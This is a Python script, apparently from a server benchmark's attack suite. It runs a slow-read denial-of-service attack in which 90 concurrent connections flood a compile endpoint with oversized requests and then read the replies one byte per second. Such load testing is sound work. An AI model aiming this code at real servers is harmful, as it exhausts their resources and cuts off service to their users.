"""Connections that ask for the largest answers there are, again and again, and read a byte a second."""

from __future__ import annotations

import socket
import time

from bench.attacks.client import GoesOn, connect, main, post, side_by_side

CONNECTIONS = 90
#: its module is large
PROGRAM = "".join(f"def f{i}(a):\n    return [a, {i}, str(a)]\nprint(f{i}({i}))\n" for i in range(150))


def attack(port: int, source: str, goes_on: GoesOn) -> None:
    def read_slowly(number: int) -> None:
        request = post("/api/compile", {"source": f"{PROGRAM}# {number % 3}\n"})
        while goes_on():
            try:
                with connect(port, source) as connection:
                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                    connection.settimeout(60)
                    connection.sendall(request * 20)
                    while goes_on() and connection.recv(1):
                        time.sleep(1)
            except OSError:
                time.sleep(0.2)

    side_by_side(CONNECTIONS, read_slowly)


if __name__ == "__main__":
    main(attack)
